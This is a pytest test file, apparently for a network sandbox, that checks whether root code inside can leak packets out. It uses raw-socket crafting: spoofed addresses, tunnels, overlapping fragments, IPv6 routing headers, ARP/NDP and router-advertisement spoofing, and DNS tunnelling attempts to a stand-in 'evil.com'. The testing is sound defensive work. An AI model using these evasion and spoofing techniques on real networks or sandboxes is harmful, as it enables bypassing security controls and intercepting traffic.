# SPDX-License-Identifier: Apache-2.0
"""Attempts to get out by other means than asking. The sandbox has root and raw sockets; nothing may get through.

A listener in the internet namespace sees whatever leaves the host; where an attempt has no answer by which it
could be judged, what counts is that nothing arrived there.
"""
import json
import subprocess
import sys
import textwrap
import time

import pytest

from backend import DriverBackend
from cases import OPEN, filtered, http, query, tcp, udp
from internet import EXAMPLE, EXAMPLE6, HOST_V4, INTERNET_V4, OTHER, TEN

SNIFFER = """
import json, select, socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)); s.bind(("wan0", 0)); s.settimeout(.1)
print("ready", flush=True)
found, needle = [], sys.argv[1].encode()
while True:
    try: data = s.recv(65536)
    except OSError:
        if select.select([sys.stdin], [], [], 0)[0]: break
        continue
    if needle in data: found.append(data[:54].hex())
print(json.dumps(found))
"""
NEEDLE = "vial-escape-needle"

RAW = """
import os, socket, struct, sys, time
NEEDLE = b"vial-escape-needle"
MAC, GATE = bytes.fromhex("027669616c02"), bytes.fromhex("027669616c01")
p = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); p.bind(("eth0", 0))
def ck(d):
    d += b"\\0" * (len(d) % 2); t = sum(struct.unpack("!%dH" % (len(d) // 2), d)); t = (t >> 16) + (t & 65535); return ~(t + (t >> 16)) & 65535
def ip4(dst, proto, body, src="192.0.0.2", frag=0, options=b""):
    h = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(options) // 4), 0, 20 + len(options) + len(body), 7, frag, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    return h[:10] + struct.pack("!H", ck(h)) + h[12:] + body
def udp(body, port=9000): return struct.pack("!HHHH", 4000, port, 8 + len(body), 0) + body
def ip6(dst, proto, body, src="fd76:6961:6c00::2"):
    return struct.pack("!IHBB", 6 << 28, len(body), proto, 64) + socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + body
def udp6(dst, body, src="fd76:6961:6c00::2"):
    u = struct.pack("!HHHH", 4000, 9000, 8 + len(body), 0) + body
    s = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!IHBB", len(u), 0, 0, 17)
    return u[:6] + struct.pack("!H", ck(s + u)) + u[8:]
def send(packet, kind=0x0800, src=MAC, dst=GATE, tag=b""): p.send(dst + src + tag + struct.pack("!H", kind) + packet)
"""


@pytest.fixture
def escape(net, sandbox, backend):
    """escape(script, policy) runs the script inside with RAW in front and says what of it arrived outside."""
    if not isinstance(backend, DriverBackend):
        pytest.skip("needs raw access to the slot's own interface")

    def run(script, policy):
        box = sandbox(policy)
        box.try_one(**tcp(EXAMPLE))  # neighbours are known
        sniffer = subprocess.Popen(["nsenter", f"--net=/run/netns/{net.internet_ns}", sys.executable, "-c", SNIFFER, NEEDLE],
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        assert sniffer.stdout.readline().strip() == "ready"
        done = box.run(["python3", "-c", RAW + textwrap.dedent(script)])
        time.sleep(0.5)  # what is under way arrives
        found = sniffer.communicate()[0]  # it ends with its input
        assert done.returncode == 0, done.stderr
        return json.loads(found)

    return run


ONLY = filtered([EXAMPLE])


def test_the_sniffer_sees_what_is_allowed(escape):
    assert escape(f"send(ip4('{EXAMPLE}', 17, udp(NEEDLE)))", ONLY)
    assert escape(f"send(ip6('{EXAMPLE6}', 17, udp6('{EXAMPLE6}', NEEDLE)), 0x86dd)", OPEN)


@pytest.mark.parametrize("script", [
    f"send(ip4('{OTHER}', 17, udp(NEEDLE)))",
    f"send(ip4('{TEN}', 17, udp(NEEDLE)))",
    f"send(ip4('{INTERNET_V4}', 17, udp(NEEDLE)))",
    f"send(ip4('{HOST_V4}', 17, udp(NEEDLE)))",
], ids=["another address", "a private address", "the next hop", "the host"])
def test_raw_packets_to_other_addresses(escape, script):
    assert escape(script, ONLY) == []


@pytest.mark.parametrize("src", ["192.0.0.3", "10.0.0.1", "127.0.0.1", EXAMPLE, "198.19.0.1", "0.0.0.0", "192.0.0.1"])
def test_other_source_addresses(escape, src):
    assert escape(f"send(ip4('{EXAMPLE}', 17, udp(NEEDLE), src='{src}'))", ONLY) == []


@pytest.mark.parametrize("src", ["fd76:6961:6c00::3", "2606:2800:220:1::99", "::1", "fe80::1", "fd76:6961:6c01:1::2", "::"])
def test_other_ipv6_source_addresses(escape, src):
    assert escape(f"send(ip6('{EXAMPLE6}', 17, udp6('{EXAMPLE6}', NEEDLE, '{src}'), '{src}'), 0x86dd)", OPEN) == []


@pytest.mark.parametrize("script", [
    f"send(ip4('{EXAMPLE}', 17, udp(NEEDLE)), src=bytes.fromhex('0276696163aa'))",
    f"send(struct.pack('!H', 5) + struct.pack('!H', 0x0800) + ip4('{EXAMPLE}', 17, udp(NEEDLE)), 0x8100)",
    f"send(NEEDLE * 4, 0x88cc); send(NEEDLE * 4, 0x8863); send(NEEDLE * 4, 0x0805)",
], ids=["another MAC", "a VLAN tag", "LLDP, PPPoE, X.25"])
def test_below_ip(escape, script):
    assert escape(script, OPEN) == []


@pytest.mark.parametrize("proto", [4, 41, 47, 50, 51, 132, 136, 2, 89, 255])
def test_other_ip_protocols(escape, proto):
    """Tunnels (IPIP, 6in4, GRE, ESP), SCTP, UDP-Lite, IGMP, OSPF: none even where everything else is open."""
    inner = f"ip4('{TEN}', 17, udp(NEEDLE))"
    assert escape(f"send(ip4('{EXAMPLE}', {proto}, {inner}))", OPEN) == []


def test_fragments_are_judged_whole(escape):
    whole = "u = udp(NEEDLE + bytes(2000) + NEEDLE, 9000)\n"
    send = "send(ip4('%s', 17, u[:1008], frag=0x2000)); send(ip4('%s', 17, u[1008:], frag=126))"
    assert escape(whole + send % (OTHER, OTHER), ONLY) == []
    assert escape(whole + send % (EXAMPLE, EXAMPLE), ONLY)
    # Only a later fragment, without the head that could be judged.
    assert escape(f"send(ip4('{OTHER}', 17, NEEDLE, frag=100)); send(ip4('{EXAMPLE}', 17, NEEDLE, frag=100))", ONLY) == []
    # The second fragment overwrites the port of the first.
    assert escape(f"u = udp(NEEDLE); send(ip4('{EXAMPLE}', 17, u[:8], frag=0x2000)); send(ip4('{EXAMPLE}', 17, udp(NEEDLE, 53)[0:], frag=0))",
                  filtered([EXAMPLE + ":9001"])) == []


def test_ipv6_fragments_and_extension_headers(escape):
    other = "2600:1f18::3"
    policy = filtered(["2606:2800::/32"])
    assert escape(f"u = udp6('{other}', NEEDLE); send(ip6('{other}', 44, struct.pack('!BBHI', 17, 0, 0, 9) + u), 0x86dd)", policy) == []
    assert escape(f"u = udp6('{other}', NEEDLE); send(ip6('{other}', 0, bytes([17, 0, 1, 4, 0, 0, 0, 0]) + u), 0x86dd)", policy) == []
    # A routing header: to an allowed address first, then on to another.
    assert escape(f"u = udp6('{other}', NEEDLE); r = bytes([17, 2, 0, 1, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '{other}'); "
                  f"send(ip6('{EXAMPLE6}', 43, r + u), 0x86dd)", policy) == []


def test_ipv4_source_routes_lead_nowhere(escape):
    route = "bytes([131, 7, 4]) + socket.inet_aton('%s') + b'\\0'" % OTHER
    assert escape(f"send(ip4('{EXAMPLE}', 17, udp(NEEDLE), options={route}))", ONLY) == []


def test_icmp_carries_nothing_past_the_rules(escape):
    for kind in (0, 3, 5, 9, 13, 15):
        assert escape(f"b = bytes([{kind}, 0, 0, 0, 0, 1, 0, 1]) + NEEDLE; b = b[:2] + struct.pack('!H', ck(b)) + b[4:]; send(ip4('{EXAMPLE}', 1, b))", OPEN) == []
    assert escape(f"b = bytes([8, 0, 0, 0, 0, 1, 0, 1]) + NEEDLE; b = b[:2] + struct.pack('!H', ck(b)) + b[4:]; send(ip4('{OTHER}', 1, b))", ONLY) == []


def test_arp_and_neighbour_tricks_change_nothing(escape, sandbox, backend):
    """The guest claims every address there is; its own traffic and the host's table stay as they were."""
    claims = """
    for ip in ("192.0.0.1", "192.0.0.3", "198.19.0.0", "%s"):
        for op in (1, 2):
            send(struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + MAC + socket.inet_aton(ip) + GATE + socket.inet_aton("192.0.0.1"), 0x0806, dst=b"\\xff" * 6)
    for ip in ("fd76:6961:6c00::1", "%s"):
        a = socket.inet_pton(socket.AF_INET6, ip)
        b = bytes([136, 0, 0, 0, 0x60, 0, 0, 0]) + a + bytes([2, 1]) + MAC
        s = socket.inet_pton(socket.AF_INET6, "fd76:6961:6c00::2") + socket.inet_pton(socket.AF_INET6, "ff02::1") + struct.pack("!IHBB", len(b), 0, 0, 58)
        b = b[:2] + struct.pack("!H", ck(s + b)) + b[4:]
        send(struct.pack("!IHBB", 6 << 28, len(b), 58, 255) + socket.inet_pton(socket.AF_INET6, "fd76:6961:6c00::2") + socket.inet_pton(socket.AF_INET6, "ff02::1") + b, 0x86dd)
    # A router advertisement: come to me for the internet.
    b = bytes([134, 0, 0, 0, 64, 0, 7, 8]) + bytes(8)
    src = socket.inet_pton(socket.AF_INET6, "fe80::76:69ff:fe61:6c02"); dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    b = b[:2] + struct.pack("!H", ck(src + dst + struct.pack("!IHBB", len(b), 0, 0, 58) + b)) + b[4:]
    send(struct.pack("!IHBB", 6 << 28, len(b), 58, 255) + src + dst + b, 0x86dd)
    time.sleep(.2)
    send(ip4("%s", 17, udp(NEEDLE)))
    """ % (EXAMPLE, EXAMPLE6, OTHER)
    assert escape(claims, ONLY) == []
    box = sandbox(ONLY)
    assert box.run(["python3", "-c", RAW + textwrap.dedent(claims)]).returncode == 0
    assert box.try_one(**tcp(EXAMPLE))["ok"]
    gate = subprocess.run(["ip", "-n", box.slot + "-gate", "neigh"], text=True, capture_output=True).stdout
    assert "192.0.0.2 dev gate0 lladdr 02:76:69:61:6c:02 PERMANENT" in gate
    routes = subprocess.run(["ip", "-n", box.slot + "-gate", "-6", "route"], text=True, capture_output=True).stdout
    assert "proto ra" not in routes


def test_other_sandboxes_cannot_be_reached(sandbox, backend):
    if not isinstance(backend, DriverBackend):
        pytest.skip("needs the slot's number")
    a, b = sandbox(OPEN), sandbox(OPEN)
    server = b.popen(["python3", "-c", "import socket; s=socket.create_server(('0.0.0.0', 9000)); print('up', flush=True); s.accept()[0].send(b'x')"],
                     stdout=subprocess.PIPE)
    assert server.stdout.readline().strip() == "up"
    number = int(b.slot.rsplit("-", 1)[1])
    v4 = number * 2
    got = a.try_all([tcp(f"198.19.{v4 >> 8}.{v4 & 255}"), tcp(f"198.19.{v4 >> 8}.{(v4 & 255) + 1}"), tcp("192.0.0.2", 9001),
                     tcp(f"fd76:6961:6c01:{number:x}::2"), tcp(f"fd76:6961:6c01:{number:x}::1")])
    assert not any(g["ok"] for g in got)
    # Nor from outside in, for whoever shares the host's network.
    inwards = subprocess.run(["nsenter", f"--net=/run/netns/{backend.net.internet_ns}", sys.executable, "-c",
                              f"import socket; socket.create_connection(('198.19.{v4 >> 8}.{(v4 & 255) + 1}', 9000), 1)"], capture_output=True)
    assert inwards.returncode
    assert server.poll() is None
    server.kill()
    server.wait()


def test_more_addresses_and_routes_inside_open_nothing(sandbox, backend):
    if not isinstance(backend, DriverBackend):
        pytest.skip("changes the slot's own namespace")
    box = sandbox(ONLY)
    box.run(["sh", "-c", f"ip addr add 198.19.0.1/16 dev eth0; ip addr add 10.1.2.9/8 dev eth0; ip route add {OTHER} via 192.0.0.1; "
             "ip link set eth0 mtu 600; ip -6 addr add 2606:2800::5/32 dev eth0 nodad; ip route add 52.0.0.0/8 dev eth0"])
    got = box.try_all([tcp(OTHER), tcp(TEN), tcp("198.19.0.2"), tcp(HOST_V4, 7777), tcp(EXAMPLE6), tcp(EXAMPLE)])
    assert [g["ok"] for g in got] == [False] * 5 + [True]


def test_vialds_port_and_the_hosts_services(sandbox):
    box = sandbox(OPEN)
    got = box.try_all([tcp(HOST_V4, 7777), http(HOST_V4), udp(HOST_V4), tcp("127.0.0.1", 7777), tcp("198.19.0.0", 7777), tcp("192.0.0.1", 7777),
                       query("example.com", to=HOST_V4)])
    assert not any(g["ok"] for g in got)


def test_vialds_port_stays_shut_where_the_host_is_allowed(sandbox, backend):
    if not isinstance(backend, DriverBackend):
        pytest.skip("the driver says that 7777 is viald's port")
    assert [g["ok"] for g in sandbox(filtered([HOST_V4])).try_all([tcp(HOST_V4), tcp(HOST_V4, 7777)])] == [True, False]


def test_names_over_another_transport(sandbox):
    """DNS tunnelling by any door but ours: other servers, other ports, TCP, DoT, DoH, IPv6."""
    box = sandbox(filtered(["example.com"]))
    got = box.try_all([query("x.evil.com", to=t, tcp=v) for t in ("8.8.8.8", "1.1.1.1", "9.9.9.53", EXAMPLE) for v in (False, True)] +
                      [tcp("8.8.8.8", 853), udp("8.8.8.8", 443), tcp("1.1.1.1", 443)])
    assert not any(g["ok"] for g in got)
    assert box.try_one(**query("example.com", to="fd76:6961:6c00::1"))["ok"]


def test_a_connection_cannot_begin_in_the_middle(sandbox, escape):
    """Without a SYN there is no connection: an ACK with data is answered with a reset and goes nowhere."""
    script = f"""
    t = struct.pack("!HHIIBBHHH", 4001, 9000, 1, 1, 0x50, 0x18, 8192, 0, 0) + NEEDLE
    s = socket.inet_aton("192.0.0.2") + socket.inet_aton("{EXAMPLE}") + struct.pack("!BBH", 0, 6, len(t))
    t = t[:16] + struct.pack("!H", ck(s + t)) + t[18:]
    send(ip4("{EXAMPLE}", 6, t))
    """
    assert escape(script, ONLY) == []
